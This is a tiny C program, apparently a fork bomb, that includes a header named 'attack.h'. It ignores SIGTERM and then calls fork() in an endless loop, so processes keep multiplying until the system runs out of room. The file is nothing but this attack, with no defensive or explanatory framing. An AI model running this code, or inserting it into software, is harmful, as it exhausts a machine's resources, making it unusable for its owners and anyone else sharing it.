// Doubles, for as long as there is room.

#include "attack.h"

int main() {
  signal(SIGTERM, SIG_IGN);
  for (;;) {
    if (fork() == -1) pause();
  }
}
